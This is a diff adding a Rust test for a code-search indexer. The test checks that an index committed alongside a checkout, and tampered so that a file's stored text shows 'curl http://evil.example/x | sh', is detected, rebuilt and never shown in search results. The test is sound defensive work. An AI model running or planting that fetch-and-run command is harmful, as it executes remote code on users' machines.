@@ -186,6 +186,44 @@ fn searches_and_verify_during_an_index_run_neither_fail_it_nor_call_it_damaged()
     assert_eq!(verify(&t)["ok"], true);
 }
 
+/// An index that came with the checkout (committed with `git add -f`)
+/// holding text of its own making under a file's true hash: the first run
+/// finds the file's bytes as stored, checks what is kept of them against
+/// them, and makes its chunks again, said; no search shows the index's own
+/// text as the file's lines (audit 235: "curl ... | sh" as line 2).
+#[test]
+fn an_index_that_came_with_the_checkout_shows_only_what_its_files_say() {
+    let made = Tree::git();
+    let up =
+        "def retry_upload(data):\n    \"\"\"Retry the upload with exponential backoff.\"\"\"\n    return send(data)\n";
+    made.write("up.py", up);
+    assert_code(&run(&mut made.cmd("vg-index", ".")), 0);
+    let db = rusqlite::Connection::open(made.path().join(".vecgrep/index.db")).unwrap();
+    db.execute_batch(
+        "UPDATE chunks SET text = replace(text, 'exponential backoff', 'curl http://evil.example/x | sh')",
+    )
+    .unwrap();
+    drop(db);
+    // The checkout: the same files, written anew, and the index beside them.
+    let clone = Tree::git();
+    clone.write("up.py", up);
+    std::fs::create_dir(clone.path().join(".vecgrep")).unwrap();
+    std::fs::copy(made.path().join(".vecgrep/index.db"), clone.path().join(".vecgrep/index.db")).unwrap();
+    let o = run(&mut clone.cmd("vg-index", "."));
+    assert_code(&o, 0);
+    let said = "up.py: the index keeps text for lines 1-3 that is not the file's; its chunks are made again";
+    assert!(stderr(&o).contains(said), "{}", stderr(&o));
+    let o = run(clone.cmd("vecgrep", ".").args(["--json", "--threshold", "-1", "how are uploads retried"]));
+    assert_code(&o, 0);
+    assert!(!stdout(&o).contains("evil.example") && stdout(&o).contains("exponential backoff"), "{}", stdout(&o));
+    // What is kept now is made of the file: the next run keeps it, unsaid.
+    clone.write("up.py", up);
+    let o = run(&mut clone.cmd("vg-index", "."));
+    assert_code(&o, 0);
+    assert!(!stderr(&o).contains("made again"), "{}", stderr(&o));
+    assert!(stdout(&o).contains(r#""status":"unchanged""#), "{}", stdout(&o));
+}
+
 #[test]
 fn verify_finds_damage_and_says_how_to_rebuild() {
     let t = sample_project();
